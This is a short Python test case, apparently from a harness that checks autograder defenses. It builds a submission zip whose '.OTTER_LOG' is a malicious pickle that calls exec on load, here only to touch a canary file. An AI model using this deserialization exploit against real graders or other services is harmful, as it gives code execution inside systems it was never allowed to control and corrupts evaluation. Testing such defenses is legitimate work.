# tries: a log in the zip whose unpickling runs code
# must not: its code does not run in the grader
# would: code
# undefended: naive
# earns: 3
# stopped by: reader of submissions

import io, os, pickle, stat, zipfile

def write(folder, entries):
    with zipfile.ZipFile(folder / "submission.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data, mode in entries:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, data, zipfile.ZIP_DEFLATED)


class Bomb:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return exec, (f"open({str(self.path)!r}, 'w').close()",)

def build(folder, notebook, arena):
    write(folder, [("hw9_toy.ipynb", notebook, 0), (".OTTER_LOG", pickle.dumps(Bomb(arena.canary)), 0)])
